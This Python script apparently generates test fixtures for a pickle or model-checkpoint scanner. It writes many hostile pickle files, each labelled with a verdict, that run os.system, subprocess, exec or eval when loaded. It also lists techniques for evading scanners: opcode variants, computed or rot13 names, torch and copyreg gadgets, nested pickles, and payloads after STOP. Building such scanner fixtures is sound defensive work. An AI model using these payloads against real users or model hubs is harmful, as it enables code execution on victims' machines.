"""Plain pickles that would run code in whoever loads them (payloads: assemble.py)."""

import gzip
import io
import marshal
import pickle
import struct

import numpy

from assemble import (
    BUILD, CANARY, DUP, EMPTY_DICT, EMPTY_TUPLE, EVAL, EXEC, EXEC_CALL, EXEC_CALL_2, HELLO, MARK,
    MEMOIZE, NEWOBJ, NEWOBJ_EX, NONE, POP, POP_MARK, REDUCE, SHELL, STACK_GLOBAL, STOP, blob, byte,
    call, frame, get, glob, list_of, proto, put as memo, short, stack_global, text, tuple_of)
from common import finish, put

BAD = "ckpt/hostile"


def hostile(name, data, family, names, note, verdict="dangerous", **facts):
    put(f"{BAD}/{family}/{name}.pkl", data, family=family, globals=names, verdict=verdict,
        note=note, **facts)


class Obj:
    """The article's object."""

    def __reduce__(self):
        return exec, (HELLO,)


def reduce_exec():
    for protocol in range(6):
        hostile(f"exec_print_p{protocol}", pickle.dumps(Obj(), protocol), "reduce_exec",
                ["builtins.exec"], f"Obj().__reduce__ -> (exec, (\"print('hello')\",)), "
                f"protocol {protocol}", prints="hello")


def direct_call():
    family = "direct_call"
    for module in ("os", "posix", "nt"):
        hostile(f"{module}_system", proto(2) + call(glob(module, "system"), text(SHELL)) + STOP,
                family, [f"{module}.system"], f"{module}.system")
    hostile("subprocess_popen", proto(4) + call(
        stack_global("subprocess", "Popen"), list_of(short("sh"), short("-c"), short(SHELL)))
        + STOP, family, ["subprocess.Popen"], "a process by STACK_GLOBAL")
    hostile("builtins_eval", proto(3) + call(glob("builtins", "eval"), text(EVAL)) + STOP, family,
            ["builtins.eval"], "eval of an expression")
    hostile("open_for_writing", proto(3) + call(glob("io", "open"), text(CANARY), text("w"))
            + STOP, family, ["io.open"], "creates a file")
    hostile("urlopen", proto(3) + call(glob("urllib.request", "urlopen"),
                                       text("file:///dev/null")) + STOP, family,
            ["urllib.request.urlopen"], "opens an address (here a local one)", inert=True)
    hostile("protocol0_os", b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR.", family, ["os.system"],
            "text opcodes only")
    hostile("inside_list", proto(2) + list_of(byte(1), EXEC_CALL_2, text("end")) + STOP, family,
            ["builtins.exec"], "as one value of a list")


def opcode_variant():
    family = "opcode_variant"
    hostile("inst", b"(V" + SHELL.encode() + b"\nios\nsystem\n.", family, ["os.system"], "INST")
    hostile("obj", proto(2) + MARK + glob("os", "system") + text(SHELL) + b"o" + STOP, family,
            ["os.system"], "OBJ")
    lazy = glob("builtins", "map") + tuple_of(glob("builtins", "exec"), list_of(text(EXEC))) + NEWOBJ
    hostile("newobj", proto(3) + glob("builtins", "bytes") + tuple_of(lazy) + NEWOBJ + STOP, family,
            ["builtins.map", "builtins.exec", "builtins.bytes"],
            "bytes.__new__ walks map.__new__(exec, [code]); no REDUCE")
    lazy_ex = (stack_global("builtins", "map")
               + tuple_of(stack_global("builtins", "exec"), list_of(short(EXEC))) + EMPTY_DICT
               + NEWOBJ_EX)
    hostile("newobj_ex", proto(4) + stack_global("builtins", "tuple") + tuple_of(lazy_ex)
            + EMPTY_DICT + NEWOBJ_EX + STOP, family,
            ["builtins.map", "builtins.exec", "builtins.tuple"], "the same by NEWOBJ_EX")
    planted = (proto(2) + glob("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
               + EMPTY_DICT + text("__setstate__") + glob("__builtin__", "exec") + b"s" + BUILD
               + text(EXEC) + BUILD + STOP)
    hostile("build_setstate", planted, family, ["argparse.Namespace", "builtins.exec"],
            "BUILD plants __setstate__ = exec, a second BUILD calls it")
    partial = (proto(3) + glob("functools", "partial") + tuple_of(glob("builtins", "print"))
               + NEWOBJ + tuple_of(glob("builtins", "exec"), tuple_of(text(EXEC)), EMPTY_DICT,
                                   EMPTY_DICT) + BUILD + EMPTY_TUPLE + REDUCE + STOP)
    hostile("partial_setstate", partial, family, ["functools.partial", "builtins.exec"],
            "a harmless partial becomes exec by BUILD and is then called")
    hostile("pop", proto(2) + EXEC_CALL_2 + POP + EMPTY_DICT + STOP, family, ["builtins.exec"],
            "the call's result is thrown away by POP")
    hostile("pop_mark", proto(2) + MARK + EXEC_CALL_2 + POP_MARK + EMPTY_DICT + STOP, family,
            ["builtins.exec"], "thrown away by POP_MARK")
    names = frame(short("builtins") + short("exec"))
    hostile("frames", proto(4) + names + frame(STACK_GLOBAL + tuple_of(short(EXEC)))
            + frame(REDUCE + STOP), family, ["builtins.exec"],
            "FRAME borders between names, call and arguments")


def stack_global_trick():
    family = "stack_global_trick"
    hostile("names_from_memo", proto(4) + short("exec") + MEMOIZE + POP + short("builtins")
            + get(0) + STACK_GLOBAL + tuple_of(short(EXEC)) + REDUCE + STOP, family,
            ["builtins.exec"], "the name comes from the memo")
    hostile("slot_overwritten", proto(4) + short("print") + memo(3) + POP + short("exec") + memo(3)
            + POP + short("builtins") + get(3) + STACK_GLOBAL + tuple_of(short(EXEC)) + REDUCE
            + STOP, family, ["builtins.exec"], "a memo slot first says print, then exec")
    joined = call(stack_global("builtins", "str.join"), short(""), list_of(short("ex"), short("ec")))
    hostile("name_joined", proto(4) + short("builtins") + joined + STACK_GLOBAL
            + tuple_of(short(EXEC)) + REDUCE + STOP, family, ["builtins.str.join", "builtins.exec"],
            "the name is computed by str.join")
    decoded = call(stack_global("codecs", "decode"), short("rkrp"), short("rot13"))
    hostile("name_rot13", proto(4) + short("builtins") + decoded + STACK_GLOBAL
            + tuple_of(short(EXEC)) + REDUCE + STOP, family, ["codecs.decode", "builtins.exec"],
            "the name is computed by rot13")
    hostile("dup_noise", proto(4) + short("builtins") + DUP + POP + short("exec") + DUP + POP
            + STACK_GLOBAL + DUP + POP + tuple_of(short(EXEC)) + DUP + POP + REDUCE + STOP, family,
            ["builtins.exec"], "DUP and POP between the pieces")


def dotted_name():
    family = "dotted_name"
    hostile("torch_os_system", proto(4) + call(stack_global("torch.serialization", "os.system"),
                                               short(SHELL)) + STOP, family,
            ["torch.serialization.os.system"], "os by way of torch.serialization")
    hostile("collections_stdout", proto(4) + call(stack_global("collections", "_sys.stdout.write"),
                                                  short("hello\n")) + STOP, family,
            ["collections._sys.stdout.write"], "sys by way of collections", prints="hello")
    hostile("tensor_globals", proto(4) + call(
        stack_global("collections", "OrderedDict.__init__.__class__.__base__.__subclasses__"))
        + STOP, family,
        ["collections.OrderedDict.__init__.__class__.__base__.__subclasses__"],
        "walks from an allowed class to every class", inert=True)


def ext_registry():
    family = "ext_registry"
    add = call(glob("copyreg", "add_extension"), text("builtins"), text("exec"), byte(66))
    hostile("add_extension", proto(3) + add + POP + b"\x82\x42" + tuple_of(text(EXEC)) + REDUCE
            + STOP, family, ["copyreg.add_extension", "builtins.exec"], "EXT1 of an added code")
    inverted = (glob("copyreg", "_inverted_registry") + byte(67)
                + tuple_of(text("builtins"), text("exec")) + b"s" + POP)
    hostile("inverted_registry", proto(3) + inverted + b"\x83\x43\x00" + tuple_of(text(EXEC))
            + REDUCE + STOP, family, ["copyreg._inverted_registry", "builtins.exec"],
            "SETITEM into the registry, then EXT2")
    hostile("ext4_unknown", proto(2) + b"\x84\x01\x00\x00\x01" + EMPTY_TUPLE + REDUCE + STOP, family,
            [], "EXT4 of a code that only the victim's process knows", inert=True)


def nested():
    family = "nested_pickle"
    inner = proto(2) + EXEC_CALL_2 + STOP
    for module, name in (("pickle", "loads"), ("_pickle", "loads")):
        hostile(f"{module}_{name}", proto(3) + call(glob(module, name), blob(inner)) + STOP, family,
                [f"{module}.{name}", "builtins.exec"], "a pickle in a bytes constant")
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({}, 2)
    stream = magic + inner + pickle.dumps([], 2)
    hostile("load_from_bytes", proto(3) + call(glob("torch.storage", "_load_from_bytes"),
                                               blob(stream)) + STOP, family,
            ["torch.storage._load_from_bytes", "builtins.exec"], "a legacy file in a bytes constant")
    code = marshal.dumps(compile(EXEC, "payload", "exec"))
    function = call(glob("types", "FunctionType"), call(glob("marshal", "loads"), blob(code)),
                    EMPTY_DICT)
    hostile("marshal_function", proto(3) + function + EMPTY_TUPLE + REDUCE + STOP, family,
            ["marshal.loads", "types.FunctionType"], "marshalled code of CPython 3.11")
    twice = proto(3) + call(glob("pickle", "loads"), blob(
        proto(3) + call(glob("pickle", "loads"), blob(inner)) + STOP)) + STOP
    hostile("two_deep", twice, family, ["pickle.loads", "builtins.exec"], "a pickle in a pickle in one")


def streams():
    clean = pickle.dumps({"note": "clean"}, 2)
    evil = proto(2) + EXEC_CALL_2 + STOP
    hostile("second_pickle", clean + evil, "after_stop", ["builtins.exec"],
            "runs when the stream is loaded on", loads=2)
    hostile("after_zero_gap", clean + b"\0" * 64 + evil, "after_stop", ["builtins.exec"],
            "behind a gap of zeros", inert=True)
    family = "broken_after_payload"
    hostile("truncated", proto(2) + EXEC_CALL_2, family, ["builtins.exec"], "no STOP")
    hostile("bad_opcode", proto(2) + EXEC_CALL_2 + b"\xff" + STOP, family, ["builtins.exec"],
            "an opcode that does not exist")
    hostile("bad_utf8", proto(2) + EXEC_CALL_2 + b"X\x02\0\0\0\xff\xfe" + STOP, family,
            ["builtins.exec"], "a string that is not UTF-8")
    hostile("huge_length", proto(4) + EXEC_CALL + b"\x8d" + struct.pack("<Q", 1 << 62), family,
            ["builtins.exec"], "a string of 4 EiB")
    family = "parser_differential"
    for name, prefix in (("int_hex", b"I0x10\n"), ("long_hex", b"L0x10L\n"), ("int_octal", b"I0o17\n"),
                         ("int_spaces", b"I 12 \n"), ("long_underscore", b"L1_000L\n"),
                         ("int_nul", b"I5\0junk\n"), ("float_nul", b"F1.5\0junk\n")):
        hostile(name, prefix + POP + EXEC_CALL + STOP, family, ["builtins.exec"],
                f"{prefix!r}: CPython reads it, stricter readers stop there")
    hostile("compressed", gzip.compress(evil, mtime=0), "compressed_pickle", ["builtins.exec"],
            "gzip around a pickle", verdict="dangerous or malformed", inert=True)
    array = io.BytesIO()
    numpy.lib.format.write_array_header_1_0(
        array, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    hostile("object_array_npy", array.getvalue() + evil, "numpy_object", ["builtins.exec"],
            "a .npy of objects", verdict="dangerous or malformed", inert=True)


def old_names():
    family = "protocol0_text"
    hostile("escaped_name", b"Vbuilt\\u0069ns\nVex\\u0065c\n" + STACK_GLOBAL + b"(V"
            + EVAL.replace("\n", "").encode() + b"\ntR.", family, ["builtins.exec"],
            "names written with \\u escapes")
    hostile("python2_commands", b"ccommands\ngetoutput\n(V" + SHELL.encode() + b"\ntR.", family,
            ["subprocess.getoutput"], "commands.getoutput, which fix_imports maps")
    hostile("python2_pickle", b"ccPickle\nloads\n(c_codecs\nencode\n(V" + b"c__builtin__\\u000aeval"
            b"\\u000a(S'1+1'\\u000atR." + b"\nVlatin1\ntRtR.", family,
            ["pickle.loads", "_codecs.encode"],
            "cPickle.loads of encoded text", inert=True)
    hostile("python2_builtin", b"c__builtin__\neval\n(V" + EVAL.encode() + b"\ntR.", family,
            ["builtins.eval"], "__builtin__.eval")


def indirection():
    family = "indirection"
    module = call(glob("importlib", "import_module"), text("os"))
    system = call(glob("builtins", "getattr"), module, text("system"))
    hostile("getattr_import", proto(3) + system + tuple_of(text(SHELL)) + REDUCE + STOP, family,
            ["importlib.import_module", "builtins.getattr", "os.system"], "getattr of an imported module")
    partial = call(glob("functools", "partial"), glob("builtins", "exec"), text(EXEC))
    hostile("partial", proto(3) + partial + EMPTY_TUPLE + REDUCE + STOP, family,
            ["functools.partial", "builtins.exec"], "partial, then called")
    lazy = call(glob("builtins", "map"), glob("builtins", "exec"), list_of(text(EXEC)))
    hostile("map_list", proto(3) + call(glob("builtins", "list"), lazy) + STOP, family,
            ["builtins.map", "builtins.list", "builtins.exec"], "list(map(exec, ...))")
    caller = call(glob("operator", "methodcaller"), text("system"), text(SHELL))
    hostile("methodcaller", proto(3) + caller + tuple_of(module) + REDUCE + STOP, family,
            ["operator.methodcaller", "importlib.import_module"], "operator.methodcaller")
    items = call(glob("operator", "itemgetter"), text("exec"))
    hostile("itemgetter", proto(3) + items + tuple_of(glob("builtins", "__dict__")) + REDUCE
            + tuple_of(text(EXEC)) + REDUCE + STOP, family,
            ["operator.itemgetter", "builtins.__dict__"], "exec taken from builtins.__dict__")
    rebuilt = call(glob("torch._tensor", "_rebuild_from_type_v2"), glob("builtins", "exec"),
                   glob("torch", "Tensor"), tuple_of(text(EXEC)), EMPTY_DICT)
    hostile("rebuild_from_type", proto(2) + rebuilt + STOP, family,
            ["torch._tensor._rebuild_from_type_v2", "builtins.exec"],
            "an allowed torch function that calls its first argument")


def unlisted():
    family = "unlisted_gadget"
    either = "dangerous or suspicious"
    for name, module, attribute, arguments in (
            ("numpy_measure", "numpy.testing", "measure", (EXEC,)),
            ("timeit", "timeit", "timeit", (EXEC, "pass")),
            ("runpy", "code", "InteractiveInterpreter.runsource", None),
            ("pydoc_locate", "pydoc", "locate", ("os.system",)),
            ("resolve_name", "pkgutil", "resolve_name", ("os:system",)),
            ("sqlite", "sqlite3", "connect", (CANARY,)),
            ("torch_save", "torch", "save", ("x", CANARY)),
            ("path_touch", "pathlib", "Path.touch", None)):
        names = [f"{module}.{attribute}"]
        if name == "runpy":
            made = call(stack_global("code", "InteractiveInterpreter"))
            body = call(stack_global(module, attribute), made, short(EVAL))
            names.append("code.InteractiveInterpreter")
        elif name == "path_touch":
            made = call(stack_global("pathlib", "PosixPath"), short(CANARY))
            body = call(stack_global(module, attribute), made)
        elif name in ("pydoc_locate", "resolve_name"):
            body = (call(glob(module, attribute), *map(text, arguments)) + tuple_of(text(SHELL))
                    + REDUCE)
        else:
            body = call(glob(module, attribute), *map(text, arguments))
        hostile(name, proto(4) + body + STOP, family, names, "on no common block-list", verdict=either)


def poisoning():
    family = "state_poisoning"
    hostile("sys_modules", proto(3) + glob("sys", "modules") + text("weightbridge_fake") + NONE
            + b"s" + STOP, family, ["sys.modules"], "SETITEM into sys.modules", inert=True)
    hostile("class_attribute", proto(3) + glob("argparse", "Namespace") + tuple_of(
        NONE, EMPTY_DICT + text("weightbridge_mark") + byte(1) + b"s") + BUILD + STOP, family,
        ["argparse.Namespace"], "BUILD with slot state sets an attribute of a class",
        verdict="dangerous or suspicious", inert=True)


def main():
    for part in (reduce_exec, direct_call, opcode_variant, stack_global_trick, dotted_name,
                 ext_registry, nested, streams, old_names, indirection, unlisted, poisoning):
        part()
    finish(__file__)


if __name__ == "__main__":
    main()
